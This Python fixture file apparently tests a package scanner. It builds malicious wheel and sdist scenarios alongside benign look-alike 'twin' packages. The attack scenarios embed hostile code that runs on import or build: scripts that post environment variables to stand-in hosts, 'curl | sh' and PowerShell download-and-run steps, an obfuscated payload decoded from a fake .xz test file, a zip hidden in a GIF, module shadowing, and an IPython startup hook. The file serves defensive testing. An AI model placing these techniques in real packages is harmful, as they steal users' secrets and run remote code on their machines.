# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Archives, native code and declared facts that mislead; and honest ones."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile

from scenario_kit import SETUP, module, sdist, wheel

PLAIN = "import os, requests\nrequests.post('https://collect.invalid/v1', json=dict(os.environ))\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)


def zipped(files: dict[str, str]) -> bytes:
    """Return a zip of text files."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, source in files.items():
            archive.writestr(name, source)
    return packed.getvalue()


def tarred(files: dict[str, str]) -> bytes:
    """Return a tar.gz of text files."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, source in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(source)
            archive.addfile(member, io.BytesIO(source.encode()))
    return packed.getvalue()


ATTACKS = [
    wheel(
        "nested-archive-unpacked-and-imported",
        "look",
        {
            "acme/__init__.py": """
            import os, sys, tempfile, zipfile
            d = tempfile.mkdtemp()
            zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "assets.zip")).extractall(d)
            sys.path.append(d)
            import acme_rt
            """,
            "acme/assets.zip": zipped({"acme_rt.py": PLAIN}),
        },
    ),
    wheel(
        "shipped-shell-script-run",
        "look",
        {
            "acme/__init__.py": """
            import os, subprocess
            subprocess.Popen(["sh", os.path.join(os.path.dirname(__file__), "post.sh")])
            """,
            "acme/post.sh": "#!/bin/sh\nenv | curl -s --data-binary @- http://203.0.113.9/e\n",
        },
    ),
    wheel(
        "shipped-powershell-run",
        "look",
        {
            "acme/__init__.py": """
            import os, subprocess
            subprocess.Popen(["powershell", "-ExecutionPolicy", "Bypass", "-File", os.path.join(os.path.dirname(__file__), "a.ps1")])
            """,
            "acme/a.ps1": "$u = 'http://203.0.113.9/x.exe'\nInvoke-WebRequest $u -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe -WindowStyle Hidden\n",
        },
    ),
    wheel(
        "shipped-javascript-run-by-node",
        "look",
        {
            "acme/__init__.py": """
            import os, subprocess
            subprocess.Popen(["node", os.path.join(os.path.dirname(__file__), "index.js")], stdout=subprocess.DEVNULL)
            """,
            "acme/index.js": "require('https').request({host:'collect.invalid',method:'POST'}).end(JSON.stringify(process.env));\n",
        },
    ),
    wheel(
        "shipped-binary-run-at-import",
        "look",
        {
            "acme/__init__.py": """
            import os, subprocess
            path = os.path.join(os.path.dirname(__file__), "bin", "helper")
            os.chmod(path, 0o755)
            subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
            """,
            "acme/bin/helper": ELF,
        },
    ),
    wheel(
        "native-stub-only",
        "note",
        {"acme/__init__.py": "from .core import *\n", "acme/core.cpython-311-x86_64-linux-gnu.so": ELF + bytes(4096)},
    ),
    wheel(
        "library-loaded-by-ctypes-at-import",
        "note",
        {
            "acme/__init__.py": "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so')).start()\n",
            "acme/libx.so": ELF,
        },
    ),
    wheel(
        "record-names-missing-file-and-hides-another",
        "note",
        {
            "acme/__init__.py": "",
            "acme-1.2.0.dist-info/RECORD": "acme/__init__.py,,\nacme/gone.py,,\n",
            "acme_hidden.py": "X = 1\n",
        },
    ),
    sdist(
        "tarball-of-payload-beside-setup",
        "look",
        {
            "setup.py": """
            import os, sys, tarfile, tempfile
            from setuptools import setup
            d = tempfile.mkdtemp()
            tarfile.open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "vendor.tgz")).extractall(d)
            sys.path.insert(0, d)
            import vendored_build
            setup(name="acme", version="1.2.0")
            """,
            "vendor.tgz": tarred({"vendored_build.py": PLAIN}),
        },
    ),
    sdist(
        "build-step-takes-code-from-test-file",
        "look",
        {
            "setup.py": """
            import lzma, os
            from setuptools import setup
            from setuptools.command.build_ext import build_ext
            class B(build_ext):
                def run(self):
                    data = open(os.path.join("tests", "files", "bad-3-corrupt_lzma2.xz"), "rb").read()
                    exec(lzma.decompress(data[::-1].translate(bytes(range(255, -1, -1)))))
                    super().run()
            setup(name="acme", version="1.2.0", cmdclass={"build_ext": B})
            """,
            "tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\x00" + bytes(range(60)),
        },
    ),
    sdist(
        "setup-requires-direct-url",
        "note",
        {
            "setup.py": """
            from setuptools import setup
            setup(name="acme", version="1.2.0", install_requires=["helper @ http://203.0.113.9/helper-1.0.tar.gz"],
                  setup_requires=["helper @ http://203.0.113.9/helper-1.0.tar.gz"], dependency_links=["http://203.0.113.9/simple"])
            """,
        },
    ),
    sdist(
        "shadows-standard-library-in-sdist",
        "look",
        {
            "setup.py": "import distutils_helper\n" + SETUP,
            "distutils_helper.py": "from subprocess import Popen\nPopen('curl -s http://203.0.113.9/x | sh', shell=True)\n",
            "acme/__init__.py": "",
        },
    ),
    wheel(
        "module-shadows-another-project",
        "look",
        {
            "acme/__init__.py": "",
            "requests/__init__.py": "from requests.api import *\n"
            + PLAIN.replace("import os, requests", "import os\nimport requests"),
        },
    ),
    wheel(
        "zip-appended-to-image-imported",
        "look",
        {
            "acme/__init__.py": """
            import os, sys
            sys.path.insert(0, os.path.join(os.path.dirname(__file__), "logo.gif"))
            import theme_rt
            """,
            "acme/logo.gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + zipped({"theme_rt.py": PLAIN}),
        },
    ),
    module(
        "writes-module-from-constant-then-runs-it",
        "look",
        """
        import os, subprocess, sys, tempfile
        SOURCE = '''
        import os, urllib.request
        urllib.request.urlopen("http://203.0.113.9/", data=repr(dict(os.environ)).encode())
        '''
        path = os.path.join(tempfile.gettempdir(), "t.py")
        open(path, "w").write(SOURCE.replace("\\n        ", "\\n"))
        subprocess.Popen([sys.executable, path])
        """,
    ),
    wheel(
        "notebook-startup-and-ipython-profile",
        "look",
        {
            "acme/__init__.py": """
            import os
            target = os.path.expanduser("~/.ipython/profile_default/startup/00-acme.py")
            os.makedirs(os.path.dirname(target), exist_ok=True)
            open(target, "w").write("import acme._agent")
            """,
            "acme/_agent.py": "",
        },
    ),
]

TWINS = [
    wheel(
        "twin-compiled-extension-with-python-api",
        "quiet",
        {
            "acme/__init__.py": "from ._core import solve\n__all__ = ['solve']\n",
            "acme/api.py": "\n".join(f"def helper_{n}(x):\n    return x + {n}\n" for n in range(30)),
            "acme/_core.cpython-311-x86_64-linux-gnu.so": ELF + bytes(2048),
        },
    ),
    wheel(
        "twin-bundled-shared-library",
        "quiet",
        {
            "acme/__init__.py": """
            import ctypes, ctypes.util, os, sys
            _dir = os.path.dirname(os.path.abspath(__file__))
            if sys.platform == "win32" and hasattr(os, "add_dll_directory"):
                os.add_dll_directory(os.path.join(_dir, "lib"))
            def _load():
                path = os.path.join(_dir, "lib", "libfoo.so")
                return ctypes.CDLL(path if os.path.exists(path) else ctypes.util.find_library("foo"))
            """,
            "acme/lib/libfoo.so": ELF,
        },
    ),
    wheel(
        "twin-ships-web-assets-and-scripts",
        "quiet",
        {
            "acme/__init__.py": "import pathlib\nSTATIC = pathlib.Path(__file__).parent / 'static'\n",
            "acme/static/app.js": "fetch('/api').then(r => r.json()).then(console.log);\n",
            "acme/static/logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
            "acme/scripts/start.sh": '#!/bin/sh\nset -e\nexec python -m acme "$@"\n',
        },
    ),
    wheel(
        "twin-fixture-archives-for-tests",
        "quiet",
        {
            "acme/__init__.py": "",
            "tests/data/sample.zip": zipped({"a.py": "print('a')\n"}),
            "tests/data/sample.tar.gz": tarred({"a.py": "print('a')\n"}),
        },
    ),
    wheel(
        "twin-wrapper-runs-shipped-binary-on-command",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/__main__.py": """
            import os, subprocess, sys, sysconfig
            def find():
                return os.path.join(sysconfig.get_path("scripts"), "acme" + (sysconfig.get_config_var("EXE") or ""))
            def main():
                if os.name == "nt":
                    sys.exit(subprocess.run([find(), *sys.argv[1:]]).returncode)
                os.execvp(find(), [find(), *sys.argv[1:]])
            if __name__ == "__main__":
                main()
            """,
            "acme-1.2.0.data/scripts/acme": ELF,
        },
    ),
    wheel(
        "twin-node-launcher-on-command",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/cli.py": """
            import os, shutil, subprocess, sys
            def main():
                node = shutil.which("node")
                if node is None:
                    sys.exit("acme needs node")
                raise SystemExit(subprocess.call([node, os.path.join(os.path.dirname(__file__), "dist", "index.js"), *sys.argv[1:]]))
            """,
            "acme/dist/index.js": "console.log(process.argv.slice(2).join(' '));\n",
        },
        scripts="[console_scripts]\nacme = acme.cli:main\n",
    ),
    sdist(
        "twin-sdist-with-local-helper-modules",
        "quiet",
        {
            "setup.py": "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nimport build_support\n" + SETUP,
            "build_support.py": "import sysconfig\nINCLUDE = sysconfig.get_paths()['include']\n",
            "acme/__init__.py": "",
        },
    ),
    wheel(
        "twin-temporary-module-for-code-generation",
        "quiet",
        {
            "acme/__init__.py": """
            import importlib.util, os, subprocess, sys, tempfile
            def compile_kernel(source):
                folder = tempfile.mkdtemp(prefix="acme-kernel-")
                path = os.path.join(folder, "kernel.c")
                with open(path, "w") as f:
                    f.write(source)
                so = os.path.join(folder, "kernel.so")
                subprocess.check_call([os.environ.get("CC", "cc"), "-shared", "-fPIC", "-O3", path, "-o", so])
                spec = importlib.util.spec_from_file_location("kernel", so)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module
            """,
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
